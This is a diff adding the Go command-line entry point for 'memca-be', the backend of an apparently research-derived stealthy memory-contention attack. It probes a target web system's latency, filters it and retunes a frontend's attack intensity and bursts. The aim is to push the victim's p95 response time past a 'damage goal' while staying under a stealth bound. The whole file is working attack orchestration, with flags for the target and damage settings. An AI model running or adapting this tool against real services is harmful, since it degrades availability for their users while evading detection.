@@ -1,0 +1,81 @@
+// Command memca-be runs the MemCA backend: it probes the target web
+// system's front door, smooths the tail-latency signal through a Kalman
+// filter, and retunes the connected frontend's attack parameters toward
+// the damage goal under the stealthiness bound.
+//
+// Usage:
+//
+//	memca-be -fe 127.0.0.1:7070 -target http://victim.example/ -goal-p95 1s
+package main
+
+import (
+	"context"
+	"flag"
+	"fmt"
+	"log"
+	"os"
+	"os/signal"
+	"syscall"
+	"time"
+
+	"memca/internal/attack"
+	"memca/internal/control"
+	"memca/internal/memcafw"
+)
+
+func main() {
+	if err := run(); err != nil {
+		fmt.Fprintln(os.Stderr, "memca-be:", err)
+		os.Exit(1)
+	}
+}
+
+func run() error {
+	var (
+		feAddr    = flag.String("fe", "127.0.0.1:7070", "frontend TCP address")
+		target    = flag.String("target", "", "target URL to probe (required)")
+		probeTmo  = flag.Duration("probe-timeout", 3*time.Second, "probe HTTP timeout")
+		probeEach = flag.Duration("probe-period", time.Second, "probe period")
+		goalP95   = flag.Duration("goal-p95", time.Second, "damage goal: p95 response time to exceed")
+		maxMB     = flag.Duration("max-millibottleneck", time.Second, "stealth bound on millibottleneck length")
+		decide    = flag.Duration("decide-every", 5*time.Second, "commander decision period")
+		duration  = flag.Duration("duration", 0, "stop after this long (0 = run until interrupted)")
+	)
+	flag.Parse()
+	if *target == "" {
+		return fmt.Errorf("-target is required")
+	}
+
+	be, err := memcafw.NewBackend(memcafw.BackendConfig{
+		FEAddr:      *feAddr,
+		Probe:       memcafw.HTTPProbe(*target, *probeTmo),
+		ProbePeriod: *probeEach,
+		Goal: control.Goal{
+			Percentile:         95,
+			TargetRT:           *goalP95,
+			MaxMillibottleneck: *maxMB,
+		},
+		Bounds: control.DefaultBounds(),
+		Initial: attack.Params{
+			Intensity:   0.5,
+			BurstLength: 100 * time.Millisecond,
+			Interval:    2 * time.Second,
+		},
+		DecisionEvery: *decide,
+		Logger:        log.New(os.Stderr, "memca-be ", log.LstdFlags),
+	})
+	if err != nil {
+		return err
+	}
+	log.Printf("memca-be connected to FE %s (program %s), probing %s",
+		be.FEInfo().FEID, be.FEInfo().Program, *target)
+
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
+	defer stop()
+	if *duration > 0 {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, *duration)
+		defer cancel()
+	}
+	return be.Run(ctx)
+}
